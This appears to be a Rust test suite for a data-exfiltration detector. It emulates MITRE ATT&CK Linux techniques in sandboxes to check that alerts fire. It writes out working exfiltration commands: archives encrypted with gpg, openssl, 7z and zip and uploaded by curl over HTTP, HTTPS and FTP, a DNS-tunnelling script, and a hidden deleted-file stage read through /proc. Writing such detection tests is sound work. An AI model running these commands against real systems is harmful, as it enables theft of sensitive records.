//! A store is packed into something else first, and sent by somebody else: MITRE's procedures for Linux, in our own words.

use std::fs;
use std::net::UdpSocket;
use std::path::PathBuf;
use std::process::Stdio;
use std::thread;

use jaga_tests::leak::nothing_told;
use jaga_tests::net::{Host, OUT};
use jaga_tests::process::{Running, Unit};
use jaga_tests::tools::{filled, has_all, rclone_serves_tls};
use jaga_tests::wait::until;
use jaga_tests::ways_out::to_out;
use jaga_tests::world::World;

/// 20 MB.
const FILES: (usize, u64) = (40, 500_000);
/// Of 1000 bytes each, of which 10,000 are a leak.
const RECORD: u64 = 1000;

/// T1048.003: what lies in the stage, one by one, by plain HTTP.
const BY_HTTP: &str = "for f in {stage}/out*; do curl -sfT $f http://{out}/; done";

/// T1048.002: the same by HTTPS, to a server whose certificate nobody knows.
const BY_HTTPS: &str = "for f in {stage}/out*; do curl -skfT $f https://{out}/; done";

type Tools = &'static [(&'static str, &'static str)];

/// A world with a store, and a folder to pack it into.
struct Stage {
    world: World,
    store: PathBuf,
    folder: PathBuf,
}

impl Stage {
    fn new(name: &str, needed: Tools) -> Option<Self> {
        let world = World::new(name).filter(|_| has_all(needed))?;
        Some(Self {
            store: world.store("ekg", FILES.0, FILES.1),
            folder: world.path("stage"),
            world,
        })
    }

    fn filled(&self, script: &str) -> String {
        filled(script, &self.world, &self.store)
            .replace("{stage}", &self.folder.display().to_string())
    }

    /// Alice packs, Bob sends, and he is told.
    fn told(mut self, pack: &str, send: &str) {
        let mut agent = self.world.agent_of_records(&self.store, RECORD, "");
        let (pack, send) = (self.filled(pack), self.filled(send));
        let sent = self.world.out_received(|world| {
            world.login("jagat-alice", &pack).done(60);
            world.login("jagat-bob", &send).done(60);
        });
        assert!(sent > 19_900_000, "all of the store, not {sent} bytes");
        to_out("login:jagat-bob").told(&mut agent, sent);
    }
}

/// Alice packs the store with these tools, Bob sends what comes of it by HTTP.
fn staged(name: &str, needed: Tools, pack: &str) {
    if let Some(stage) = Stage::new(name, needed) {
        stage.told(pack, BY_HTTP);
    }
}

/// T1030: pieces of one size, one at a time.
#[test]
fn t1030_split_into_pieces() {
    let pack = "tar cf - -C {store} . | split -b 2M - {stage}/out.";
    staged("t1030_split_into_pieces", &[], pack);
}

/// T1074.001: copies in one place, moved and linked there under other names, the first ones removed.
#[test]
fn t1074_001_collected_in_one_place() {
    let pack = "mkdir {stage}/.cache; find {store} -name '0*' -exec cp {} {stage}/.cache/ ';'
        cd {stage}/.cache; for f in 000* 001*; do mv $f ../out.$f; done
        for f in 00*; do ln $f ../out.$f; rm $f; done";
    staged("t1074_001_collected_in_one_place", &[], pack);
}

/// T1560.001.
#[test]
fn t1560_001_tar_and_gzip() {
    let pack = "tar czf {stage}/out.tgz -C {store} .";
    staged("t1560_001_tar_and_gzip", &[], pack);
}

/// T1560.001, and T1048.002.
#[test]
fn t1560_001_gpg_with_a_password_over_https() {
    let name = "t1560_001_gpg_with_a_password_over_https";
    let needed: Tools = &[
        ("gpg", "gpg"),
        ("gpg-agent", "gpg-agent"),
        ("rclone", "rclone"),
    ];
    let Some(mut stage) = Stage::new(name, needed) else {
        return;
    };
    rclone_serves_tls(&mut stage.world);
    // It starts an agent of its own, which outlives it.
    let pack = "mkdir -m 700 {stage}/h; echo p >{stage}/p; tar cf {stage}/x.tar -C {store} .
        gpg --homedir {stage}/h --batch --quiet --pinentry-mode loopback --passphrase-file {stage}/p --s2k-count 65536 \
            --symmetric -o {stage}/out.gpg {stage}/x.tar 2>/dev/null
        rm {stage}/x.tar; gpgconf --homedir {stage}/h --kill gpg-agent";
    stage.told(pack, BY_HTTPS);
}

/// T1560.001.
#[test]
fn t1560_001_openssl_file_by_file() {
    let pack = "cd {store}; for f in *; do openssl enc -aes-256-cbc -pbkdf2 -iter 10 -pass pass:p -in $f -out {stage}/out.$f; done";
    staged(
        "t1560_001_openssl_file_by_file",
        &[("openssl", "openssl")],
        pack,
    );
}

/// T1560.001: volumes with a password, names of files hidden.
#[test]
fn t1560_001_7z_in_volumes() {
    let pack = "7z a -bd -bso0 -mx0 -mhe=on -pp -v5m {stage}/out.7z {store}";
    staged("t1560_001_7z_in_volumes", &[("7z", "p7zip-full")], pack);
}

/// T1560.001.
#[test]
fn t1560_001_zip_with_a_password() {
    let pack = "zip -q -r -1 -P p {stage}/out.zip {store}";
    staged("t1560_001_zip_with_a_password", &[("zip", "zip")], pack);
}

/// T1560.002: by libraries, a part each, and one of them maps what it reads.
#[test]
fn t1560_002_packed_by_a_script() {
    let script = "import glob, gzip, io, mmap, tarfile, zipfile
files = sorted(glob.glob(\"{store}/*\"))
with zipfile.ZipFile(\"{stage}/out.zip\", \"w\") as archive:
    for name in files[:15]: archive.write(name)
with tarfile.open(\"{stage}/out.tar.bz2\", \"w\") as archive:
    for name in files[15:30]: archive.add(name)
with gzip.open(\"{stage}/out.gz\", \"wb\", 1) as archive:
    for name in files[30:]:
        with open(name, \"rb\") as file: archive.write(mmap.mmap(file.fileno(), 0, access=mmap.ACCESS_READ))
";
    let pack = format!("exec /usr/bin/python3 -c '{script}'");
    staged("t1560_002_packed_by_a_script", &[], &pack);
}

/// T1048.003: by FTP, whose data goes by connections of their own.
#[test]
fn t1048_003_ftp() {
    let Some(mut stage) = Stage::new("t1048_003_ftp", &[("curl", "curl")]) else {
        return;
    };
    let received = stage.world.path("received");
    let mut server = stage.world.net.out.command("/usr/bin/python3");
    server
        .args(["-m", "pyftpdlib", "-i", OUT, "-p", "21", "-w", "-u", "u"])
        .args(["-P", "p", "-d"])
        .arg(received);
    stage
        .world
        .serve_outside(server.stdout(Stdio::null()).stderr(Stdio::null()), 21);
    let send = "cd {stage}; for f in out*; do curl -sST $f ftp://u:p@{out}/; done";
    stage.told(
        "cp {store}/0* {stage}/; cd {stage}; for f in 0*; do mv $f out.$f; done",
        send,
    );
}

/// A name server on the internet that knows no name.
fn name_server(host: &Host) {
    let socket = host.inside(|| UdpSocket::bind((OUT, 53)).unwrap());
    thread::spawn(move || {
        let mut message = [0; 512];
        while let Ok((length, from)) = socket.recv_from(&mut message) {
            // RFC 1035, 4.1.1: an answer, "name error".
            message[2] |= 0x80;
            message[3] = message[3] & 0xf0 | 3;
            let _ = socket.send_to(&message[..length], from);
        }
    });
}

/// T1048.003: thirty bytes a name, in hexadecimal, asked for by the system's own resolver.
#[test]
fn t1048_003_names_by_hand() {
    let Some(stage) = Stage::new("t1048_003_names_by_hand", &[]) else {
        return;
    };
    name_server(&stage.world.net.out);
    let mut agent = stage.world.agent_of_records(&stage.store, RECORD, "");
    fs::write(
        stage.folder.join("resolv.conf"),
        format!("nameserver {OUT}\n"),
    )
    .unwrap();
    let script = "head -c 6000 {store}/0000.dcm | od -An -v -tx1 -w30 | tr -d ' ' >{stage}/names
        unshare --mount sh -ec 'mount --bind {stage}/resolv.conf /etc/resolv.conf
            while read piece; do getent ahostsv4 $piece.t.example.com || true; done <{stage}/names'";
    Unit::new("jagat-names.service").run(&stage.filled(script), 60);
    let alert = agent.alert("dns-tunnel", "firing", &[("domain", "example.com")]);
    println!("   {}", alert["summary"]);
    agent.replay_equals_live();
}

/// T1074.001, T1564: the stage is a file that has no name any more, read through /proc by somebody else.
#[test]
fn t1074_001_a_stage_without_a_name() {
    let Some(mut stage) = Stage::new("t1074_001_a_stage_without_a_name", &[]) else {
        return;
    };
    let mut agent = stage.world.agent_of_records(&stage.store, RECORD, "");
    let packer = Unit::new("jagat-pack.service");
    let pack = "exec 3>{stage}/x; rm {stage}/x; tar cf - -C {store} . >&3; touch {stage}/ready; exec sleep 600";
    let holder = Running::start(&mut packer.shell(&stage.filled(pack)));
    until("the stage to be full", 60, || {
        stage.folder.join("ready").exists().then_some(())
    });
    let send = format!("curl -sfT - http://{OUT}/ </proc/{}/fd/3", holder.pid());
    let sent = stage
        .world
        .out_received(|world| world.in_unit("jagat-send.service", &send, 60));
    assert!(sent > 19_900_000, "all of the store, not {sent} bytes");
    to_out("unit:jagat-send.service").told(&mut agent, sent);
}

/// Bob packs pictures with the same tools and sends them, while Alice packs the store and sends nothing.
#[test]
fn the_same_tools_with_other_files_are_quiet() {
    let name = "the_same_tools_with_other_files_are_quiet";
    let Some(mut stage) = Stage::new(name, &[("7z", "p7zip-full"), ("zip", "zip")]) else {
        return;
    };
    let pictures = stage.world.store("pictures", FILES.0, FILES.1);
    let mut agent = stage.world.agent_of_records(&stage.store, RECORD, "");
    let pack = "zip -q -r -1 -P p {stage}/hers.zip {store}; tar cf - {store} 2>/dev/null | split -b 2M - {stage}/hers.";
    let other = "cd {pictures}; zip -q -r -1 -P p {stage}/out.zip .; tar cf - . | split -b 2M - {stage}/out.
        7z a -bd -bso0 -mx0 -pp {stage}/out.7z .\n"
        .replace("{pictures}", &pictures.display().to_string());
    let (pack, send) = (stage.filled(pack), stage.filled(&(other + BY_HTTP)));
    let sent = stage.world.out_received(|world| {
        world.login("jagat-alice", &pack).done(60);
        world.login("jagat-bob", &send).done(60);
    });
    assert!(sent > 59_000_000, "three times the pictures, not {sent}");
    #[expect(clippy::cast_precision_loss, reason = "60 MB fit a double")]
    let least = sent as f64 * 0.99;
    agent.metric_reaches("jaga_sent_bytes_total", &[("scope", "external")], least);
    agent.metric_reaches("jaga_store_read_bytes_total", &[("store", "ekg")], 19.8e6);
    nothing_told(&mut agent);
}
